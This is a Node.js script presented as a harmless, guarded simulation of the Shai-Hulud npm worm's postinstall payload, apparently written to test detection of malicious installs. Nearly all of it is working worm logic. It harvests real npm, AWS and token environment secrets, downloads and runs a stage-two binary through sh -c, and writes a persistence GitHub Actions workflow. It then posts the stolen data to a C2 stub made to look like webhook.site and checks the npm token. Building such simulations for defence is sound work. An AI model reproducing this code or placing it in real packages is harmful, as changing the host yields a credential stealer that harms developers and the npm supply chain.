// guarded-install attack simulation (harmless) of the Shai-Hulud worm's
// postinstall bundle.js (September 2025). Steps, ~0.5-1 s apart:
//   1. harvest: read ~/.npmrc, ~/.aws/credentials, env tokens (GITHUB_TOKEN,
//      NPM_TOKEN, AWS_*)                                             (t = 0)
//   2. download a "scanner" (TruffleHog stand-in) from the C2 /stage2?s=1 into
//      $TMPDIR/trufflehog, chmod +x                                  (t ~ 0.6 s)
//   3. run it through `sh -c` (it sleeps 1 s and exits)              (t ~ 1.3 s)
//   4. persistence: write .github/workflows/shai-hulud.yml into the
//      project root ($INIT_CWD)                                      (t ~ 3 s)
//   5. exfiltrate the harvest: POST to the C2 /webhook (Host: webhook.site)
//                                                                    (t ~ 3.7 s)
//   6. `npm whoami` to validate the stolen npm token (fails: no registry is
//      reachable in the namespace; killed after 8 s at most)         (t ~ 4.5 s)
// Connections go only to 203.0.113.45 (the local C2 stub).
'use strict';
const { spawn } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { guard, sleep, c2Request, step } = require('./sim-guard.js');

const SIM = 'shai-hulud';
guard(__dirname, SIM);

function readIfThere(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch {
    return null;
  }
}

function run(cmd, args, timeoutMs) {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    const timer = setTimeout(() => child.kill('SIGKILL'), timeoutMs); // by our child's pid
    child.on('error', (e) => {
      clearTimeout(timer);
      resolve({ code: null, out: String(e) });
    });
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      resolve({ code, signal, out });
    });
  });
}

async function main() {
  // 1. harvest credentials
  const home = os.homedir();
  const harvest = {
    npmrc: readIfThere(path.join(home, '.npmrc')),
    aws: readIfThere(path.join(home, '.aws', 'credentials')),
    env: Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|AWS_|GITHUB|NPM_/i.test(k) && !k.startsWith('npm_'))),
    host: os.hostname(),
  };
  step(SIM, `harvested ${Object.keys(harvest.env).length} env tokens`);
  await sleep(600);

  // 2. download the "scanner"
  const res = await c2Request({ urlPath: '/stage2?s=1', host: 'github.com' });
  const scanner = path.join(os.tmpdir(), 'trufflehog');
  fs.writeFileSync(scanner, res.body);
  fs.chmodSync(scanner, 0o755);
  step(SIM, `scanner dropped at ${scanner}`);
  await sleep(700);

  // 3. run it through a shell
  const scan = await run('sh', ['-c', `"${scanner}" filesystem "${home}" --json`], 10_000);
  harvest.scan = { exit: scan.code };
  step(SIM, `scanner exited ${scan.code}`);
  await sleep(600);

  // 4. persistence: a GitHub Actions workflow in the project that installed us
  const projectRoot = process.env.INIT_CWD || process.cwd();
  const wfDir = path.join(projectRoot, '.github', 'workflows');
  fs.mkdirSync(wfDir, { recursive: true });
  fs.writeFileSync(
    path.join(wfDir, 'shai-hulud.yml'),
    [
      '# written by the guarded-install Shai-Hulud simulation (harmless)',
      'name: shai-hulud',
      'on: push',
      'jobs:',
      '  process:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - run: echo "${{ toJSON(secrets) }}" > /dev/null  # the real worm sent this to webhook.site',
      '',
    ].join('\n'),
  );
  step(SIM, `workflow written under ${wfDir}`);
  await sleep(700);

  // 5. exfiltrate
  const sent = await c2Request({ method: 'POST', urlPath: '/webhook', host: 'webhook.site', body: harvest });
  step(SIM, `harvest posted (${sent.status})`);
  await sleep(800);

  // 6. validate the stolen npm token
  const whoami = await run('npm', ['whoami', '--fetch-retries=0', '--fetch-timeout=3000'], 8000);
  step(SIM, `npm whoami exited ${whoami.code ?? whoami.signal}`);
}

main().catch((error) => {
  step(SIM, `failed: ${error.message}`);
  process.exit(0);
});
